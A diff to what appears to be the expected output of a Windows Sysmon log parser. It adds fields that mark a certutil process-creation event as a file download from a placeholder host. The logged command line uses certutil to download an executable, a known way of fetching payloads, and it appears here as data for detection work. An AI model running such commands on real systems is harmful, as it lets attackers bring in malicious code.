@@ -15,6 +15,7 @@ win.json
            category             process_creation
            channel              Microsoft-Windows-Sysmon/Operational
            command_line         certutil -urlcache -f http://files.example/a.exe a.exe
+           command_plain        certutil -urlcache -f http://files.example/a.exe a.exe
            command_url          http://files.example/a.exe
            command_url_host     files.example
            dst_ip               192.0.2.7
@@ -24,4 +25,8 @@ win.json
            host                 ws5.corp.example
            process_name         certutil.exe
            process_path         C:\Windows\System32\certutil.exe
+           transfer_direction   download
+           transfer_file        a.exe
+           transfer_host        files.example
+           transfer_url         http://files.example/a.exe
   fields   Channel, CommandLine, Computer, DestinationIp, DestinationPort, EventID, Image, UtcTime
